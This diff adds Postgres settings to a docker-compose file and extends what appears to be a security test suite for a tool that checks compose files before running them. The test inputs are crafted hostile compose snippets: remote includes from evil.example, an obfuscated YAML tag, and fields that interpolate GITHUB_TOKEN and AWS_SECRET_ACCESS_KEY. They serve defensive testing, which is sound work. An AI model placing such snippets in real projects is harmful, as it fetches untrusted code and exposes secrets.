@@ -24,6 +24,11 @@ services:
     depends_on: [db]
   db:
     image: postgres:16
+    environment:
+      POSTGRES_PASSWORD: ${POSTGRES_PASSWORD}
+    ports:
+      - "${DB_PORT:-5432}:5432"
+    command: postgres -c x=${DB_PASSWORD}
     volumes:
       - data:/var/lib/postgresql/data
 
@@ -82,6 +87,8 @@ def test_an_ordinary_project_asks_nothing(project: Path, command: str) -> None:
         SERVICE + "    !<tag:yaml.org,2002:%62inary> ZXh0ZW5kcw==: {file: x, service: y}\n",
         "name: x\rinclude: [https://evil.example/x.git]\n" + SERVICE,
         '{"include": ["https://evil.example/x.git"]}\n',
+        SERVICE + '    privileged: "${GITHUB_TOKEN}"\n',
+        SERVICE + "    depends_on:\n      - $AWS_SECRET_ACCESS_KEY\n",
     ],
 )
 def test_a_compose_file_that_fetches_asks(project: Path, command: str, text: str) -> None:
